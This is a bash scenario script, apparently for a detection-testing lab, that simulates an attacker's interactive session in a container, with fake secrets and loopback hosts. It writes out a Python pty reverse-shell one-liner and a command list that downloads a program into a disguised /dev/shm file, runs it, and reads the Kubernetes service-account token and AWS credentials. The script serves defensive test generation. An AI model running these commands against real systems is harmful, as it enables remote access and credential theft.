#!/bin/bash
# Scenario histshell: an attacker's interactive session, judged by the history bash keeps in
# memory (held out from the rules' making). A Python one-liner connects to a fake attacker on
# 127.148.x.y, puts the socket on its stdin/stdout/stderr and upgrades to a terminal with
# pty.spawn: bash runs on a pty, interactive, and records every command with its time. Through
# it the attacker looks around, fetches a program from a second address into /dev/shm, makes it
# executable and runs it, reads the pod's service-account token and the AWS credentials
# (made-up ones, mounted as a pod gets them), then leaves the shell idle at its prompt.
# Usage: lab/scenarios/histshell.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init histshell "$@"
lab_use_tools_image

ADDR=$(lab_addr 148)
REV="$ADDR:$(lab_pick 443 2083 4443 6443)"
DL="$ADDR:$(lab_pick 80 8000 8080)"
[ "${REV#*:}" != "${DL#*:}" ] || lab_die "port clash"
DROPPED=/dev/shm/.$(lab_pick font-cache pulse-shm X11-unix)-$(lab_hex 2)
DL_URL="http://$DL/$(lab_pick static assets dl)/$(lab_hex 4)"
SHELL_CMD="python3 -c 'import os,pty,socket;s=socket.create_connection((\"${REV%:*}\",${REV#*:}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"
CMDS="id|cat /etc/os-release|ps -ef|curl -fsSL $DL_URL -o $DROPPED|chmod 755 $DROPPED|$DROPPED|cat /var/run/secrets/kubernetes.io/serviceaccount/token|cat /root/.aws/credentials|ls -la /root"

lab_host_dir POD pods
mkdir -p "$POD/sa" "$POD/aws"
NS=$(lab_pick search catalog reports)
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace "$NS" --sa "$NS-api" >/dev/null || lab_die "fakedata failed"
cp "$WORK/sec/token" "$WORK/sec/namespace" "$WORK/sec/ca.crt" "$POD/sa/"
cp "$WORK/sec/aws_credentials" "$POD/aws/credentials"

lab_peer_on dl "$DL" perl "$PEERS/sink.pl" --listen "$DL" --respond ok --content-type text/plain \
    --body "$(printf '#!/bin/sh\necho "$(id -u) $(hostname)" > /dev/null\n')" --summary "$WORK/peer-dl.json"
lab_shell_listener "$REV" "$CMDS"

lab_run --env APP_ENV=prod --env KUBERNETES_SERVICE_HOST=kubernetes.default.svc \
    -v "$POD/sa:/var/run/secrets/kubernetes.io/serviceaccount:ro" -v "$POD/aws:/root/.aws:ro" \
    --hostname "$(lab_json_pick "$WORK/sec/values.json" pod)" -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_exec_bg "$SHELL_CMD"
lab_wait_shell_done
lab_wait "the program was fetched" 10 lab_json "$WORK/peer-dl.json" 'd["sessions"]'

lab_finish "$DROPPED" /var/run/secrets/kubernetes.io/serviceaccount/token /root/.aws/credentials

lab_kv_json "$WORK/params.json" "listener=$REV" "download=$DL" "download_url=$DL_URL" "dropped=$DROPPED" \
    "command=$SHELL_CMD" "attacker_commands:=$(IFS='|'; lab_json_list $CMDS)" \
    "secrets:=$(lab_json_pick "$WORK/sec/values.json" jwt aws_access_key_id aws_secret_access_key)"
lab_facts --conn "relay=$REV" --proc "shell=^/bin/bash$"
lab_truth --description "interactive session over a python pty reverse shell to $REV: discovery, $DL_URL fetched to $DROPPED and run, service-account token and AWS credentials read" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
